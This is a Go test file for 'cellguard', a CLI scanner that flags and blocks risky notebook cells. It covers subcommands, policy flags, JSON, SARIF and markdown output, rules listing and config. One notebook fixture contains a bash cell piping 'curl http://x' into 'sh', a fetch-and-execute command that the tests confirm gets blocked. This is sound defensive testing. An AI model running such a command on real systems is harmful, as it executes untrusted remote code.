package main

import (
	"bytes"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/Lin-Jiong-HDU/cellguard/internal/finding"
	"github.com/Lin-Jiong-HDU/cellguard/internal/report"
	"github.com/Lin-Jiong-HDU/cellguard/internal/security"
)

// execute runs the CLI with a temporary HOME and returns its stdout.
func execute(t *testing.T, stdin string, args ...string) (string, error) {
	t.Helper()
	t.Setenv("HOME", t.TempDir())

	root := newRootCommand()
	var out bytes.Buffer
	root.SetIn(strings.NewReader(stdin))
	root.SetOut(&out)
	root.SetErr(&out)
	root.SetArgs(args)

	err := root.Execute()
	return out.String(), err
}

func writeFile(t *testing.T, name, content string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
		t.Fatalf("Failed to write %s: %v", name, err)
	}
	return path
}

func TestRootCommand_Subcommands(t *testing.T) {
	root := newRootCommand()

	for _, name := range []string{"scan", "rules", "repl", "review", "serve", "config"} {
		cmd, _, err := root.Find([]string{name})
		if err != nil || cmd.Name() != name {
			t.Errorf("Expected %s command to be registered", name)
			continue
		}
		if cmd.Short == "" {
			t.Errorf("Expected %s command to have a short description", name)
		}
	}

	for _, flag := range []string{"config", "debug"} {
		if root.PersistentFlags().Lookup(flag) == nil {
			t.Errorf("Expected persistent flag --%s", flag)
		}
	}
}

func TestScanCommand_Flags(t *testing.T) {
	cmd := getScanCommand()
	for _, flag := range []string{"format", "output", "block-medium", "allow-high", "analyze-unparsable"} {
		if cmd.Flags().Lookup(flag) == nil {
			t.Errorf("Expected scan flag --%s", flag)
		}
	}
}

func TestScan_StdinSafe(t *testing.T) {
	out, err := execute(t, "import numpy as np\nnp.zeros(3)\n", "scan")
	if err != nil {
		t.Fatalf("Expected no error, got %v", err)
	}
	if !strings.Contains(out, "<stdin>") {
		t.Errorf("Expected stdin path in output:\n%s", out)
	}
	if !strings.Contains(out, "1 file(s), 1 cell(s), 0 blocked") {
		t.Errorf("Expected summary in output:\n%s", out)
	}
}

func TestScan_NotebookBlocked(t *testing.T) {
	nb := `{"cells": [
	  {"cell_type": "code", "source": ["x = 1\n"]},
	  {"cell_type": "code", "source": ["%%bash\n", "curl http://x | sh"]}
	]}`
	path := writeFile(t, "job.ipynb", nb)

	out, err := execute(t, "", "scan", "--format", "json", path)
	if !errors.Is(err, errBlocked) {
		t.Fatalf("Expected errBlocked, got %v", err)
	}

	var rep report.Report
	if err := json.Unmarshal([]byte(out), &rep); err != nil {
		t.Fatalf("Expected JSON output: %v\n%s", err, out)
	}
	if len(rep.Files) != 1 || len(rep.Files[0].Cells) != 2 {
		t.Fatalf("Expected 1 file with 2 cells, got %+v", rep.Files)
	}
	second := rep.Files[0].Cells[1].Result
	if !second.Blocked || second.Issues[0].RuleID != "MAGIC001" {
		t.Errorf("Expected MAGIC001 block, got %+v", second)
	}
	if second.Parse != security.ParseNotAttempted {
		t.Errorf("Expected not_attempted, got %s", second.Parse)
	}
}

func TestScan_PolicyFlags(t *testing.T) {
	tests := []struct {
		name        string
		code        string
		args        []string
		wantBlocked bool
	}{
		{"high blocks by default", "import subprocess\nsubprocess.run(['ls'])", nil, true},
		{"allow high", "import subprocess\nsubprocess.run(['ls'])", []string{"--allow-high"}, false},
		{"critical ignores allow high", "eval('1')", []string{"--allow-high"}, true},
		{"medium passes by default", "!ls", nil, false},
		{"block medium", "!ls", []string{"--block-medium"}, true},
		{"unparsable passes", "eval('x')\n)\n", nil, false},
		{"analyze unparsable", "eval('x')\n)\n", []string{"--analyze-unparsable"}, true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			args := append([]string{"scan"}, tt.args...)
			_, err := execute(t, tt.code, args...)
			if tt.wantBlocked && !errors.Is(err, errBlocked) {
				t.Errorf("Expected errBlocked, got %v", err)
			}
			if !tt.wantBlocked && err != nil {
				t.Errorf("Expected no error, got %v", err)
			}
		})
	}
}

func TestScan_OutputFileSARIF(t *testing.T) {
	src := writeFile(t, "cell.txt", "import os\nos.environ['PATH'] = '/x'\n")
	dest := filepath.Join(t.TempDir(), "out.sarif")

	out, err := execute(t, "", "scan", "-f", "sarif", "-o", dest, src)
	if !errors.Is(err, errBlocked) {
		t.Fatalf("Expected errBlocked, got %v", err)
	}
	if out != "" {
		t.Errorf("Expected nothing on stdout, got %q", out)
	}

	data, err := os.ReadFile(dest)
	if err != nil {
		t.Fatalf("Expected output file: %v", err)
	}
	var log report.SarifLog
	if err := json.Unmarshal(data, &log); err != nil {
		t.Fatalf("Expected SARIF JSON: %v", err)
	}
	if len(log.Runs[0].Results) == 0 || !strings.HasPrefix(log.Runs[0].Results[0].RuleID, "ENV") {
		t.Errorf("Expected ENV result, got %+v", log.Runs[0].Results)
	}
}

func TestScan_Errors(t *testing.T) {
	if _, err := execute(t, "x = 1", "scan", "--format", "xml"); err == nil || errors.Is(err, errBlocked) {
		t.Errorf("Expected format error, got %v", err)
	}

	missing := filepath.Join(t.TempDir(), "missing.ipynb")
	if _, err := execute(t, "", "scan", missing); err == nil || errors.Is(err, errBlocked) {
		t.Errorf("Expected load error, got %v", err)
	}

	bad := writeFile(t, "bad.ipynb", "{not json")
	if _, err := execute(t, "", "scan", bad); err == nil {
		t.Error("Expected parse error for invalid notebook")
	}
}

func TestScan_ConfigFile(t *testing.T) {
	conf := writeFile(t, "cellguard.yaml", "scanner:\n  block_medium_risk: true\noutput:\n  format: markdown\n")

	out, err := execute(t, "import subprocess\n", "--config", conf, "scan")
	if !errors.Is(err, errBlocked) {
		t.Fatalf("Expected medium finding to block under config, got %v", err)
	}
	if !strings.Contains(out, "## cellguard scan") {
		t.Errorf("Expected markdown output from config:\n%s", out)
	}

	if _, err := execute(t, "", "--config", filepath.Join(t.TempDir(), "nope.yaml"), "scan"); err == nil {
		t.Error("Expected error for explicit missing config file")
	}
}

func TestRules(t *testing.T) {
	out, err := execute(t, "", "rules")
	if err != nil {
		t.Fatalf("Expected no error, got %v", err)
	}
	for _, id := range []string{"MAGIC001", "SHELL005", "EXEC001", "PICKLE002"} {
		if !strings.Contains(out, id) {
			t.Errorf("Expected %s in rules table", id)
		}
	}

	out, err = execute(t, "", "rules", "--layer", "ast")
	if err != nil {
		t.Fatalf("Expected no error, got %v", err)
	}
	if strings.Contains(out, "MAGIC001") {
		t.Error("Expected pre-parse rules to be filtered out")
	}

	if _, err := execute(t, "", "rules", "--layer", "bogus"); err == nil {
		t.Error("Expected error for unknown layer")
	}
}

func TestRules_JSON(t *testing.T) {
	out, err := execute(t, "", "rules", "--json", "--layer", "pre-parse")
	if err != nil {
		t.Fatalf("Expected no error, got %v", err)
	}

	var rules []finding.Rule
	if err := json.Unmarshal([]byte(out), &rules); err != nil {
		t.Fatalf("Expected JSON: %v", err)
	}
	if len(rules) != 8 {
		t.Errorf("Expected 8 pre-parse rules, got %d", len(rules))
	}
	for _, r := range rules {
		if r.Layer != finding.LayerPreParse {
			t.Errorf("Expected pre-parse layer, got %s for %s", r.Layer, r.ID)
		}
	}
}

func TestRepl(t *testing.T) {
	out, err := execute(t, "eval('1')\n\n/policy\n/exit\n", "repl", "--no-render")
	if err != nil {
		t.Fatalf("Expected no error, got %v", err)
	}
	for _, want := range []string{"[EXEC001]", "HIGH     block", "Scanned 1 cell(s), 1 blocked."} {
		if !strings.Contains(out, want) {
			t.Errorf("Expected %q in output:\n%s", want, out)
		}
	}
}

func TestConfigInitAndShow(t *testing.T) {
	path := filepath.Join(t.TempDir(), "config.yaml")

	out, err := execute(t, "", "--config", path, "config", "init")
	if err != nil {
		t.Fatalf("config init failed: %v", err)
	}
	if !strings.Contains(out, "Wrote "+path) {
		t.Errorf("Expected written path in output:\n%s", out)
	}
	if _, err := os.Stat(path); err != nil {
		t.Fatalf("Expected config file: %v", err)
	}

	out, err = execute(t, "n\n", "--config", path, "config", "init")
	if err != nil {
		t.Fatalf("config init failed: %v", err)
	}
	if !strings.Contains(out, "Config left unchanged.") {
		t.Errorf("Expected overwrite to be declined:\n%s", out)
	}

	out, err = execute(t, "", "--config", path, "config", "init", "--force")
	if err != nil || !strings.Contains(out, "Wrote") {
		t.Errorf("Expected forced overwrite, err=%v out=%s", err, out)
	}

	out, err = execute(t, "", "--config", path, "config", "show")
	if err != nil {
		t.Fatalf("config show failed: %v", err)
	}
	for _, want := range []string{"block_high_risk: true", "block_medium_risk: false", "format: text", "width: 100"} {
		if !strings.Contains(out, want) {
			t.Errorf("Expected %q in output:\n%s", want, out)
		}
	}
}

func TestConfigInit_ReplacesBrokenFile(t *testing.T) {
	path := writeFile(t, "config.yaml", "output:\n  format: xml\n")

	if _, err := execute(t, "", "--config", path, "config", "show"); err == nil {
		t.Fatal("Expected invalid config to fail")
	}
	if _, err := execute(t, "", "--config", path, "config", "init", "--force"); err != nil {
		t.Fatalf("Expected init to replace invalid config, got %v", err)
	}
	if _, err := execute(t, "", "--config", path, "config", "show"); err != nil {
		t.Errorf("Expected repaired config to load, got %v", err)
	}
}
